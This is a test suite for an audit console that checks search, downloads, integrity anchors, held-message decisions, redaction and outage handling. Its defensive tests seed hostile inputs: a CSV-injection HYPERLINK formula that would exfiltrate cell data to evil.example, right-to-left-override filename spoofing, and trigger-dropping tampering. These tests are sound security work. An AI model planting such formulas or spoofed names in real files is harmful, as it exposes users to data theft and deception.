"""What the pages show and do: audit search (filters, keyset paging),
timeline, downloads, integrity, dashboard, held-message decisions; and that
no page shows message content or a password."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from console_support import (
    HELD_BODY,
    HELD_ID,
    T0,
    Console,
    csrf_of,
    events_for,
    record,
    wait_for,
)
from sqlalchemy import text
from structlog.testing import capture_logs
from test_console_access import console_events, queue_state

from gateway.audit import (
    AuditAttachment,
    AuditKeys,
    AuditQuery,
    AuditRecord,
    AuditTrail,
    EventType,
    verify,
)
from gateway.queue import Writer


def ids_on(page: str) -> list[str]:
    return re.findall(r'href="/audit/records/([^"/]+)"', page)


def signed_in(console: Console, user: str = "carol", **web: Any) -> Any:
    client = console.client(**web)
    client.__enter__()
    console.sign_in(client, user)
    return client


# -- search ------------------------------------------------------------------------------------


@pytest.mark.parametrize("query,expected,absent", [
    ("verdict=reject", {"REC-REJECTED"}, {"REC-DELIVERED"}),
    ("sender=BOB.BROWN@council.example", {"REC-REJECTED"}, {"REC-DELIVERED"}),
    ("sender=bob*", {"REC-REJECTED"}, {"REC-AWAITING"}),
    ("recipient=x@gmail.example", {"REC-REJECTED"}, {"REC-DELIVERED"}),
    ("organisation=riverside+nhs+trust&type=uk_nhs_number", {"REC-DELIVERED", HELD_ID},
     {"REC-REJECTED"}),
    ("reason=recipient_not_allowed", {"REC-REJECTED"}, {"REC-DELIVERED"}),
    ("purpose=case+conference&verdict=protect", {"REC-DELIVERED"}, {"REC-REJECTED"}),
    ("event=has:relayed&event=never:delivery_confirmed", {"REC-AWAITING"}, {"REC-DELIVERED"}),
    ("since=3h", {"REC-DELIVERED", "REC-AWAITING"}, {"BULK00000"}),
])
def test_search_filters_match_the_cli(
    console: Console, query: str, expected: set[str], absent: set[str]
) -> None:
    client = signed_in(console, "alice")
    try:
        response = client.get(f"/audit?{query}")
    finally:
        client.__exit__(None, None, None)
    assert response.status_code == 200
    found = set(ids_on(response.text))
    assert expected <= found
    assert not (absent & found)


@pytest.mark.parametrize("query", ["since=yesterday", "verdict=maybe", "event=sometimes:held",
                                   "event=has:exploded"])
def test_bad_filters_are_explained(console: Console, query: str) -> None:
    client = signed_in(console, "alice")
    try:
        response = client.get(f"/audit?{query}")
    finally:
        client.__exit__(None, None, None)
    assert response.status_code == 400
    assert 'role="alert"' in response.text


def test_paging_visits_every_record_once(console: Console) -> None:
    """Keyset pages across a run of 60 records with the very same time."""
    client = signed_in(console, "alice")
    seen: list[str] = []
    try:
        url = "/audit?sender=staff*"
        pages = 0
        while url:
            page = client.get(url).text
            seen += ids_on(page)
            pages += 1
            found = re.search(r'href="(/audit\?[^"]*after=[^"]*)">Older', page)
            url = found.group(1).replace("&amp;", "&") if found else ""
            assert pages < 10
    finally:
        client.__exit__(None, None, None)
    assert pages == 3  # 130 records, 50 a page
    assert len(seen) == len(set(seen)) == 130
    assert set(console.seed.tie_ids) <= set(seen)


def test_download_csv_and_json_are_audited(console: Console) -> None:
    client = signed_in(console, "alice")
    try:
        as_csv = client.get("/audit/download?format=csv&sender=staff*")
        as_json = client.get("/audit/download?format=json&verdict=reject")
        bad = client.get("/audit/download?format=xml")
    finally:
        client.__exit__(None, None, None)
    assert as_csv.status_code == 200
    assert "attachment" in as_csv.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert rows[0][0] == "id" and len(rows) == 131
    lines = [json.loads(line) for line in as_json.text.splitlines()]
    assert [d["id"] for d in lines] == ["REC-REJECTED"]
    assert set(lines[0]) >= {"id", "recipients", "verdict", "reasons", "events"}
    assert bad.status_code == 400
    exported = console_events(console, "console_exported")
    assert [e["format"] for e in exported] == ["csv", "json"]
    assert exported[0]["filters"] == {"sender": "staff*"} and exported[0]["user"] == "alice"


def _append(console: Console, rec: AuditRecord) -> None:
    """One more record in the console's database, as the gateway writes it."""

    async def append(engine: Any) -> None:
        writer = Writer(engine)
        writer.start()
        try:
            await writer.submit(AuditTrail().record_op(
                rec, events_for(rec, (EventType.RECEIVED, EventType.QUEUED))))
        finally:
            await writer.stop()

    console.run(append)


def test_a_downloaded_csv_cell_never_starts_a_formula(console: Console) -> None:
    """A purpose typed by staff and the recipient's +44 telephone number:
    Excel would read either as a formula (CSV injection; an error for the
    number).  The CSV holds them as text; the JSON download as recorded."""
    rec = record("REC-FORMULA", T0 + timedelta(minutes=5), sender="dana@council.example",
                 purpose='=HYPERLINK("https://evil.example/?"&A2,"Open")')
    rec = replace(rec, recipients=(replace(rec.recipients[0], telephone="+44 1632 960003"),))

    _append(console, rec)
    client = signed_in(console, "alice")
    try:
        as_csv = client.get("/audit/download?format=csv&sender=dana@council.example")
        as_json = client.get("/audit/download?format=json&sender=dana@council.example")
    finally:
        client.__exit__(None, None, None)
    (row,) = csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig")))
    assert row["id"] == "REC-FORMULA"
    assert row["purpose"] == "'" + rec.purpose
    assert row["recipient_telephones"] == "'+44 1632 960003"
    (document,) = [json.loads(line) for line in as_json.text.splitlines()]
    assert document["purpose"] == rec.purpose
    assert document["recipients"][0]["telephone"] == "+44 1632 960003"


def test_pages_name_the_characters_that_would_reorder_or_hide_text(console: Console) -> None:
    """A right-to-left override makes "invoice<RLO>fdp.exe" read
    "invoiceexe.pdf" in the browser; controls from an encoded-word subject
    vanish.  The record's page and the search page name them."""
    rec = replace(
        record("REC-SPOOF", T0 + timedelta(minutes=6), sender="erin@council.example"),
        subject="Minutes\x1b[2J\u202e",
        attachments=(AuditAttachment("invoice\u202efdp.exe", "application/octet-stream",
                                     "none", False),),
        recipients=(replace(record("x", T0).recipients[0], name="Dr \u202eRhys"),),
    )
    _append(console, rec)
    client = signed_in(console, "alice")
    try:
        page = client.get("/audit/records/REC-SPOOF").text
        found = client.get("/audit?sender=erin@council.example").text
    finally:
        client.__exit__(None, None, None)
    assert "invoice&lt;U+202E&gt;fdp.exe" in page
    assert "Minutes&lt;U+001B&gt;[2J&lt;U+202E&gt;" in page
    assert "Dr &lt;U+202E&gt;Rhys" in page
    assert "\u202e" not in page and "\x1b" not in page
    assert ids_on(found) == ["REC-SPOOF"]


# -- one record ------------------------------------------------------------------------------


def test_record_timeline(console: Console) -> None:
    client = signed_in(console, "alice")
    try:
        page = client.get("/audit/records/REC-DELIVERED").text
        awaiting = client.get("/audit/records/REC-AWAITING").text
        missing = client.get("/audit/records/NOPE")
        download = client.get("/audit/records/REC-DELIVERED/download")
    finally:
        client.__exit__(None, None, None)
    stages = re.findall(r'<li class="(done|pending)"><strong>([^<]+)</strong>', page)
    assert stages == [("done", "Received"), ("done", "Relayed"), ("done", "Delivery confirmed"),
                      ("done", "Read"), ("done", "Password released")]
    assert "Dr Rhys Jones" in page and "Riverside NHS Trust" in page
    stages = re.findall(r'<li class="(done|pending)"><strong>([^<]+)</strong>', awaiting)
    assert [s for s, _ in stages] == ["done", "done", "pending", "pending", "pending"]
    assert missing.status_code == 404
    document = download.json()
    assert document["id"] == "REC-DELIVERED" and len(document["events"]) == 6
    assert console_events(console, "console_exported")[-1]["record"] == "REC-DELIVERED"


def test_a_record_edited_outside_the_gateway_still_has_its_page(console: Console) -> None:
    # Someone with the triggers out of the way made one record's document
    # and another's kept events unreadable: each page shows what can still
    # be read and says so, and the search still lists both.
    async def edit(engine: Any) -> None:
        async with engine.begin() as conn:
            if conn.dialect.name == "postgresql":
                await conn.execute(text("SET LOCAL session_replication_role = replica"))
            else:
                await conn.execute(text("DROP TRIGGER audit_records_no_update"))
            await conn.execute(text(
                "UPDATE audit_records SET document = '{\"reasons\": 1}'"
                " WHERE id = 'REC-DELIVERED'"))
            await conn.execute(text(
                "UPDATE audit_records SET events = '[\"x\"]' WHERE id = 'REC-AWAITING'"))

    console.run(edit)
    client = signed_in(console, "alice")
    try:
        delivered = client.get("/audit/records/REC-DELIVERED")
        awaiting = client.get("/audit/records/REC-AWAITING")
        found = client.get("/audit?since=3h")
        download = client.get("/audit/records/REC-DELIVERED/download")
    finally:
        client.__exit__(None, None, None)
    assert (delivered.status_code, awaiting.status_code) == (200, 200)
    notice = "Part of this record ({}) is not as the gateway wrote it"
    assert notice.format("document") in delivered.text
    assert notice.format("events") in awaiting.text
    stages = re.findall(r'<li class="(done|pending)"><strong>([^<]+)</strong>', delivered.text)
    assert [s for s, _ in stages] == ["done"] * 5  # its events still read
    assert found.status_code == 200
    assert {"REC-DELIVERED", "REC-AWAITING"} <= set(ids_on(found.text))
    assert download.json()["damaged"] == ["document"]


# -- integrity -------------------------------------------------------------------------------


def test_integrity_status_is_checked_cached_and_audited(console: Console) -> None:
    client = signed_in(console, "alice")
    try:
        first = client.get("/integrity").text
        assert "Not checked yet" in first or "Verified" in first
        wait_for(lambda: "Verified" in client.get("/integrity").text)
        page = client.get("/integrity").text
        assert "Last checked" in page and "records" in page
        assert console_events(console, "console_verified") == []  # automatic: not an action
        token = csrf_of(page)
        response = client.post("/integrity/check", data={"csrf": token})
        assert response.status_code == 303
        wait_for(lambda: bool(console_events(console, "console_verified")))
    finally:
        client.__exit__(None, None, None)
    event = console_events(console, "console_verified")[0]
    assert event["user"] == "alice" and event["ok"] is True


def test_integrity_gives_an_anchor_and_checks_those_kept_elsewhere(console: Console) -> None:
    client = signed_in(console, "alice")
    try:
        wait_for(lambda: "Verified" in client.get("/integrity").text)
        page = client.get("/integrity").text
        (given,) = re.findall(r'<code class="anchor">(\d+:[0-9a-f]{64})</code>', page)
        seq = given.split(":")[0]

        def check(anchors: str) -> str:
            token = csrf_of(client.get("/integrity").text)
            assert client.post("/integrity/check",
                               data={"csrf": token, "anchors": anchors}).status_code == 303
            wait_for(lambda: "a check is running" not in client.get("/integrity").text.lower())
            return client.get("/integrity").text

        assert "Verified" in check(f"{given}\n\n")
        wrong = f"{seq}:{'0' * 64}"
        failed = check(f"{given}\n{wrong}")
        assert "FAILED verification" in failed
        assert f"row seq {seq} does not match the anchor at seq {seq}" in failed
        token = csrf_of(failed)
        refused = client.post("/integrity/check", data={"csrf": token, "anchors": "12:abc"},
                              follow_redirects=True).text
        assert "Nothing was checked: an anchor is not SEQ:HASH" in refused
    finally:
        client.__exit__(None, None, None)


# -- dashboard -------------------------------------------------------------------------------


def test_dashboard_charts_and_lists(console: Console) -> None:
    client = signed_in(console, "alice")
    try:
        page = client.get("/dashboard").text
        week = client.get("/dashboard?days=7")
        odd = client.get("/dashboard?days=abc")
    finally:
        client.__exit__(None, None, None)
    assert page.count("<svg") == 3
    assert "recipient_not_allowed" in page  # top rejected reasons
    assert re.search(r"<title>\d{4}-\d\d-\d\d: reject 1</title>", page)
    assert "REC-AWAITING" in page  # relayed, no receipt yet
    assert "dr.jones@nhs.example" in page  # held password close to expiry (5 h)
    assert week.status_code == 200 and odd.status_code == 200


# -- held messages --------------------------------------------------------------------------


def test_held_message_shows_why_and_who(console: Console) -> None:
    client = signed_in(console, "bob")
    try:
        listing = client.get("/held").text
        page = client.get(f"/held/{HELD_ID}").text
        missing = client.get("/held/NOPE")
    finally:
        client.__exit__(None, None, None)
    assert HELD_ID in listing and "not allowed" in listing
    assert "special category data" in page
    assert "special_category, uk_nhs_number" in page
    assert "Named GP for safeguarding" in page and "01632 960001" in page  # from the allow-list
    assert "Not on the allow-list" in page  # someone@elsewhere.example
    assert missing.status_code == 404


def test_approval_becomes_authorised_by(console: Console) -> None:
    released: list[bool] = []
    auditor = signed_in(console, "carol")
    try:
        # Awaiting approval, it was authorised by no one: not found by name.
        page = auditor.get("/audit?authorised_by=bob+approver").text
        assert "No record matches." in page and HELD_ID not in ids_on(page)
    finally:
        auditor.__exit__(None, None, None)
    client = signed_in(console, "bob")
    try:
        client.app.state.console.on_release = lambda: released.append(True)
        token = csrf_of(client.get(f"/held/{HELD_ID}").text)
        response = client.post(f"/held/{HELD_ID}/decide", data={
            "csrf": token, "decision": "approve", "note": "Case conference tomorrow"})
        assert response.status_code == 303
        assert "approved" in client.get("/held").text
        again = client.post(f"/held/{HELD_ID}/decide", data={"csrf": token,
                                                              "decision": "reject"})
        assert "no longer held" in client.get(again.headers["location"]).text
    finally:
        client.__exit__(None, None, None)
    assert released == [True]
    assert queue_state(console)[0] == "queued"
    approved = console_events(console, "approved")
    # The approver by their full name, as `held approve --by` gives it, and
    # the console account that decided beside it.
    assert approved == [{"by": "Bob Approver", "authorised_by": "Bob Approver",
                         "note": "Case conference tomorrow", "via": "web console",
                         "account": "bob", "record_id": HELD_ID}]
    admin = signed_in(console, "carol")
    try:
        record = admin.get(f"/audit/records/{HELD_ID}").text
        found = ids_on(admin.get("/audit?authorised_by=BOB+APPROVER").text)
    finally:
        admin.__exit__(None, None, None)
    assert found == [HELD_ID]
    assert re.search(r"<dt>Authorised by</dt><dd>Bob Approver \(approved\)</dd>", record)
    assert all(e["record_id"] != HELD_ID for e in console_events(console, "rejected"))


@pytest.mark.parametrize("decision", ["approve", "reject"])
def test_the_decisions_note_is_kept_redacted(console: Console, decision: str) -> None:
    """Approvers type the case into the note: the trail keeps it redacted,
    as it keeps the purpose (the event, the record's page)."""
    note = "ok for Jack Wilson, NHS 943 476 5919; password is Kettle-Harbour-93"
    client = signed_in(console, "bob")
    try:
        token = csrf_of(client.get(f"/held/{HELD_ID}").text)
        response = client.post(f"/held/{HELD_ID}/decide", data={
            "csrf": token, "decision": decision, "note": note})
        assert response.status_code == 303
        page = client.get(f"/audit/records/{HELD_ID}").text
    finally:
        client.__exit__(None, None, None)
    kind = "approved" if decision == "approve" else "rejected"
    (event,) = [e for e in console_events(console, kind) if e["record_id"] == HELD_ID]
    assert event["note"] == "ok for [redacted], NHS [redacted]; password is [redacted]"
    assert event["by"] == "Bob Approver"
    for value in ("Jack Wilson", "943 476 5919", "Kettle-Harbour-93"):
        assert value not in page


def test_rejection_wipes_the_content(console: Console) -> None:
    client = signed_in(console, "carol")
    try:
        token = csrf_of(client.get(f"/held/{HELD_ID}").text)
        client.post(f"/held/{HELD_ID}/decide", data={"csrf": token, "decision": "reject",
                                                       "note": "Wrong recipient"})
        bad = client.post(f"/held/{HELD_ID}/decide", data={"csrf": token, "decision": "maybe"})
    finally:
        client.__exit__(None, None, None)
    assert queue_state(console) == ("rejected", b"")
    rejected = console_events(console, "rejected")
    assert rejected[-1]["reasons"] == ["not_authorised"] and rejected[-1]["by"] == "carol"
    assert bad.status_code == 400


# -- no content, no passwords; the chain stays whole ----------------------------------------------


def test_no_page_shows_content_or_passwords(console: Console) -> None:
    body = HELD_BODY.decode()
    secrets = (body, "943 476 5919", console.seed.held_password)
    client = signed_in(console, "carol")
    try:
        pages = [client.get(path).text for path in (
            "/dashboard", "/audit", f"/audit/records/{HELD_ID}", "/audit/records/REC-AWAITING",
            "/audit/download?format=csv", "/audit/download?format=json", "/held",
            f"/held/{HELD_ID}", "/activity", "/integrity")]
    finally:
        client.__exit__(None, None, None)
    for page in pages:
        for secret in secrets:
            assert secret not in page


def test_console_events_keep_the_chain_verifiable(console: Console) -> None:
    client = signed_in(console, "carol")
    try:
        client.get("/audit/download?format=csv")
        token = csrf_of(client.get(f"/held/{HELD_ID}").text)
        client.post(f"/held/{HELD_ID}/decide", data={"csrf": token, "decision": "approve"})
        activity = client.get("/activity").text
    finally:
        client.__exit__(None, None, None)
    assert "signed_in" in activity and "exported" in activity

    async def check(engine: Any) -> Any:
        return await verify(engine, AuditKeys(()))

    report = console.run(check)
    assert report.ok, report.problems

    async def record(engine: Any) -> Any:
        return await AuditQuery(engine).get(HELD_ID)

    assert [e["type"] for e in console.run(record)["events"]][-1] == "approved"



# -- the database down -------------------------------------------------------------------------


def test_a_database_that_cannot_be_reached_is_a_page_that_says_so(console: Console) -> None:
    """The database goes down while an administrator is signed in: the
    audit search and a held message's decision each get a page saying what
    is wrong and that nothing was changed,
    with 503, where Starlette answered a bare 500 "Internal Server Error".
    Signing in, which records itself, is refused the same way.  The log
    line names the error's type, not its text."""
    secret = "s" * 32  # one session secret: the sessions outlive the outage
    up, down = (console.client(database_url=url, session_secret=secret)
                for url in (None, "postgresql+asyncpg://postgres@127.0.0.1:9/nowhere"))
    with up:
        console.sign_in(up, "carol")  # an admin: audit pages and held decisions
        form = up.get(f"/held/{HELD_ID}").text
    with down, capture_logs() as logs:
        down.cookies = up.cookies
        page = down.get("/audit?sender=alice*")
        decided = down.post(f"/held/{HELD_ID}/decide", data={
            "decision": "approve", "note": "ok", "csrf": csrf_of(form)})
        down.cookies.clear()
        signin = down.get("/signin")
        refused = down.post("/signin", data={"name": "alice", "password": "auditor-pass-1",
                                             "csrf": csrf_of(signin.text), "next": "/"})
    for response in (page, decided, refused):
        assert response.status_code == 503
        assert "The database could not be reached" in response.text
        assert "Nothing was changed" in response.text
    failures = [e for e in logs if e["event"] == "console_database_error"]
    assert {e["path"] for e in failures} == {"/audit", f"/held/{HELD_ID}/decide", "/signin"}
    assert {e["error"] for e in failures} <= {"ConnectionRefusedError", "StoreError"}
    assert queue_state(console, HELD_ID)[0] == "held"
